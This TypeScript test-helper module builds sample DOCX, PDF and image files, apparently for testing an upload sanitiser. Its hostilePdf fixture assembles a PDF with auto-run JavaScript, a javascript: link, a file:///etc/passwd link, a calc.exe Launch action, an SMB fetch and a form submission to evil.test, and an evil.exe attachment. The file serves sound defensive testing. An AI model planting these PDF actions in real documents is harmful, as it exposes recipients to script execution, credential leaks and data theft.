import { randomBytes } from 'node:crypto';
import { PDFArray, type PDFDict, PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { writeArchive } from './archive.ts';

/** Files as people send them, and as those do who mean no good. */

const collect = (files: Record<string, string | Buffer>): Promise<Buffer> =>
  writeArchive(
    new Map(Object.entries(files).map(([name, content]) => [name, Buffer.from(content as string)])),
  );

export const zipOf = collect;

export const TYPES_NAMESPACE = 'http://schemas.openxmlformats.org/package/2006/content-types';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
export const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
export const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
export const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

export const typesXml = (mainType = MAIN_TYPE, more = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${TYPES_NAMESPACE}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${mainType}"/>${more}</Types>`;

export const relationsXml = (lines: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELATIONS}">${lines}</Relationships>`;

export const namedRelation = (id: string, kind: string, target: string, mode = ''): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${target}" ${mode && `TargetMode="${mode}"`}/>`;

export const relation = (kind: string, target: string, mode = ''): string =>
  namedRelation('rId1', kind, target, mode);

export const textXml = (body: string, namespaces = ''): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${WORD}"${namespaces && ` ${namespaces}`}><w:body>${body}</w:body></w:document>`;

/** Parts of a DOCX with one sentence. */
export const docxParts = (text = 'Diplom'): Record<string, string | Buffer> => ({
  '_rels/.rels': relationsXml(relation('officeDocument', 'word/document.xml')),
  'word/document.xml': textXml(`<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`),
  '[Content_Types].xml': typesXml(),
});

export const docxOf = (more: Record<string, string | Buffer> = {}): Promise<Buffer> =>
  collect({ ...docxParts(), ...more });

/** A PDF with a page of text for each given one; `change` may do with it what it likes. */
export const pdfOf = async (
  texts: readonly string[] = ['Diplom'],
  change: (document: PDFDocument) => void = () => {},
): Promise<Buffer> => {
  const document = await PDFDocument.create();
  for (const text of texts) document.addPage([300, 200]).drawText(text, { x: 20, y: 100 });
  change(document);
  return Buffer.from(await document.save({ useObjectStreams: false }));
};

/** A PDF of exactly so many bytes. */
export const paddedPdf = async (size: number): Promise<Buffer> => {
  const pdf = await pdfOf();
  const end = pdf.lastIndexOf('startxref');
  const padding = `%${'x'.repeat(size - pdf.length - 2)}\n`;
  return Buffer.concat([pdf.subarray(0, end), Buffer.from(padding), pdf.subarray(end)]);
};

type Parts = Record<string, PDFObject | PDFObject[] | string>;

/** Returns a PDF with everything that acts on opening or on a click. */
export const hostilePdf = (): Promise<Buffer> =>
  pdfOf(['Diplom', 'Second'], (document) => {
    const { context, catalog } = document;
    const script = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    const action = (S: string, more: Parts = {}) => context.obj({ S, ...more });
    catalog.set(PDFName.of('OpenAction'), context.register(script()));
    catalog.set(PDFName.of('AA'), context.obj({ WC: script() }));
    const scripts = context.obj({ Names: [PDFString.of('one'), context.register(script())] });
    catalog.set(PDFName.of('Names'), context.obj({ JavaScript: scripts }));
    const annotation = (Subtype: string, more: Parts) =>
      context.register(context.obj({ Type: 'Annot', Subtype, Rect: [0, 0, 50, 50], ...more }));
    const link = (A: PDFDict) => annotation('Link', { A });
    document.getPage(0).node.set(
      PDFName.of('Annots'),
      context.obj([
        link(action('URI', { URI: PDFString.of('https://good.test/') })),
        link(action('URI', { URI: PDFString.of('javascript:alert(1)') })),
        link(action('URI', { URI: PDFString.of('file:///etc/passwd') })),
        link(action('Launch', { F: PDFString.of('calc.exe') })),
        link(action('GoToR', { F: PDFString.of('\\\\evil.test\\share\\x.pdf') })),
        link(action('SubmitForm', { F: PDFString.of('https://evil.test/form') })),
        link(action('Named', { N: 'Print', Next: script() })),
        link(action('GoTo', { D: [document.getPage(1).ref, PDFName.of('Fit')], Next: script() })),
        annotation('FileAttachment', {
          FS: context.obj({ Type: 'Filespec', F: PDFString.of('evil.exe') }),
        }),
        annotation('Screen', { AA: context.obj({ PO: script() }) }),
        annotation('Text', { Contents: PDFString.of('a remark') }),
      ] as never),
    );
    document.setTitle('Secret title');
    document.setAuthor('Secret author');
  });

/** Every object of a PDF as text, whether or not it was packed. */
export const pdfText = async (bytes: Uint8Array): Promise<string> => {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  const objects = document.context.enumerateIndirectObjects().map(([, object]) => String(object));
  return objects.join('\n');
};

export const annotationsOf = async (bytes: Uint8Array): Promise<string[]> => {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  const found = document.getPage(0).node.Annots() ?? PDFArray.withContext(document.context);
  return found.asArray().map((one) => String(document.context.lookup(one)));
};

/** A picture of noise, which no format makes small. */
export const pictureOf = (kind: 'jpeg' | 'png' | 'webp', width = 120, height = 80): Promise<Buffer> =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .toFormat(kind)
    .toBuffer();
